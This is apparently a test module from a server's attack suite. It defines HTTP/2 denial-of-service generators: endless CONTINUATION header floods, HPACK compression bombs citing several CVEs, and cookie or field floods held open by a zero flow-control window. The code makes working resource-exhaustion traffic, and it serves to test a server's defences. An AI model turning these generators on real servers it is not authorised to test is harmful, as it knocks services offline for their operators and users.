"""Header blocks over HTTP/2: endless ones, and ones that HPACK makes large or many of few bytes."""

from __future__ import annotations

from tests.attacks import h2
from tests.attacks.attack import Attack
from tests.attacks.script import MakeScript, Script, repeated
from tests.bench.http2_frames import END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, frame

CONNECTIONS, HOLDING, STREAMS = 8, 11, 100
FRAME = 16 * 1024 - 64
LARGE_VALUE = b"x" * 3900
"""With its name and 32 bytes it fills the dynamic table of 4096 bytes."""

COOKIES = 280
"""Below the limit of Sidegate: requests that are accepted and then held."""


def continued(payload: bytes) -> MakeScript:
    """A header block that never ends (CVE-2024-27316 and others)."""

    def script(secure: bool) -> Script:
        yield from h2.opening()
        yield frame(HEADERS, END_STREAM, 1, h2.fields(secure))
        yield from repeated(frame(h2.CONTINUATION, 0, 1, payload))

    return script


def bomb(field: bytes) -> MakeScript:
    """Requests of which each has ``field`` thousands of times, by a reference of one byte (CVE-2016-6581)."""

    def script(secure: bool) -> Script:
        yield from h2.opening()
        yield h2.request(1, h2.fields(secure) + field)
        block = h2.fields(secure)
        more = h2.NEWEST * (FRAME - len(block))
        for stream in range(3, 2**31, 2):
            yield h2.request(stream, block + more)

    return script


def held_cookies(secure: bool) -> Script:
    """Requests with as many cookies as are allowed, held by responses without a window (CVE-2026-49975)."""
    yield from h2.opening({INITIAL_WINDOW_SIZE: 0})
    block = h2.fields(secure, "/large")
    yield h2.request(1, block + h2.literal(b"cookie", b"a=b", indexed=True))
    crumbs = h2.NEWEST * COOKIES
    yield b"".join(h2.request(stream, block + crumbs) for stream in range(3, 2 * STREAMS, 2))


def held_fields(secure: bool) -> Script:
    """The same with fields, nearly as many and as large as are allowed."""
    yield from h2.opening({INITIAL_WINDOW_SIZE: 0})
    block = h2.fields(secure, "/large")
    yield h2.request(1, block + h2.literal(b"x-large", b"x" * 290, indexed=True))
    yield b"".join(h2.request(stream, block + h2.NEWEST * 90) for stream in range(3, 2 * STREAMS, 2))


ATTACKS = (
    Attack("continuation-flood", "a header block of endless CONTINUATION, 16 KiB each", "h2", CONNECTIONS,
           continued(h2.literal(b"x", b"y" * 1000) * 16)),
    Attack("continuation-empty", "a header block of endless empty CONTINUATION", "h2", CONNECTIONS, continued(b"")),
    Attack("hpack-bomb", "16 KiB of references to a field of 3.9 KB", "h2", CONNECTIONS,
           bomb(h2.literal(b"x-large", LARGE_VALUE, indexed=True))),
    Attack("field-bomb", "16 KiB of references to a field of 2 bytes", "h2", CONNECTIONS,
           bomb(h2.literal(b"x", b"y", indexed=True))),
    Attack("nameless-bomb", "16 KiB of references to a field without name and value (CVE-2019-9516)", "h2", CONNECTIONS,
           bomb(h2.literal(b"", b"", indexed=True))),
    Attack("cookie-bomb", "16 KiB of references to a cookie of one byte", "h2", CONNECTIONS,
           bomb(h2.literal(b"cookie", b"a", indexed=True))),
    Attack("held-cookies", f"{HOLDING} x {STREAMS} requests with {COOKIES} cookies, no window", "h2",
           HOLDING, held_cookies),
    Attack("held-fields", f"{HOLDING} x {STREAMS} requests with 90 fields of 300 bytes, no window", "h2", HOLDING,
           held_fields),
)  # fmt: skip
